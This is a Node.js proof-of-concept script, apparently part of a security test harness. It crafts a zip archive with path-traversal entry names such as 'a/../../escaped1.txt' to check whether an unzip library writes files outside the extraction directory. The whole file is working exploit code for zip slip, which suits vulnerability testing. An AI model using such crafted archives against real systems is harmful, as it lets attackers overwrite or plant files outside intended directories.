// PoC (zip slip): an entry named 'a/../../<name>' carries the secret; return what lands outside dest.
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const zlib = require('node:zlib');
const { Readable } = require('node:stream');
const ase = require(process.env.ASE_HELPERS + '/poc.cjs');

function zip(entries) { // minimal zip writer, stored entries
  const locals = []; const centrals = []; let offset = 0;
  for (const [name, data] of entries) {
    const n = Buffer.from(name); const d = Buffer.from(data); const crc = zlib.crc32(d);
    const h = Buffer.alloc(30); h.writeUInt32LE(0x04034b50, 0); h.writeUInt16LE(20, 4);
    h.writeUInt32LE(crc, 14); h.writeUInt32LE(d.length, 18); h.writeUInt32LE(d.length, 22); h.writeUInt16LE(n.length, 26);
    const c = Buffer.alloc(46); c.writeUInt32LE(0x02014b50, 0); c.writeUInt16LE(20, 4); c.writeUInt16LE(20, 6);
    c.writeUInt32LE(crc, 16); c.writeUInt32LE(d.length, 20); c.writeUInt32LE(d.length, 24); c.writeUInt16LE(n.length, 28); c.writeUInt32LE(offset, 42);
    locals.push(h, n, d); centrals.push(c, n); offset += 30 + n.length + d.length;
  }
  const cd = Buffer.concat(centrals); const e = Buffer.alloc(22); e.writeUInt32LE(0x06054b50, 0);
  e.writeUInt16LE(entries.length, 8); e.writeUInt16LE(entries.length, 10); e.writeUInt32LE(cd.length, 12); e.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, e]);
}

ase.pathTraversal(async ({ secretPath }) => {
  const unzip = require(process.env.ASE_REPO);
  const base = fs.mkdtempSync(path.join(os.tmpdir(), 'zipslip-'));
  const dest = path.join(base, 'out', 'dest');
  fs.mkdirSync(dest, { recursive: true });
  const secret = fs.readFileSync(secretPath);
  const names = ['a/../../escaped1.txt', 'a/b/../../../../escaped2.txt', './../escaped3.txt'];
  const archive = zip(names.map((n) => [n, secret]));
  await new Promise((resolve) => {
    Readable.from([archive]).pipe(unzip.Extract({ path: dest })).on('close', resolve).on('error', resolve);
  });
  // Whatever was written outside dest (only a traversal can put it there).
  const outside = [path.join(base, 'out', 'escaped1.txt'), path.join(base, 'escaped2.txt'), path.join(base, 'out', 'escaped3.txt')];
  return outside.filter((p) => fs.existsSync(p)).map((p) => fs.readFileSync(p));
});
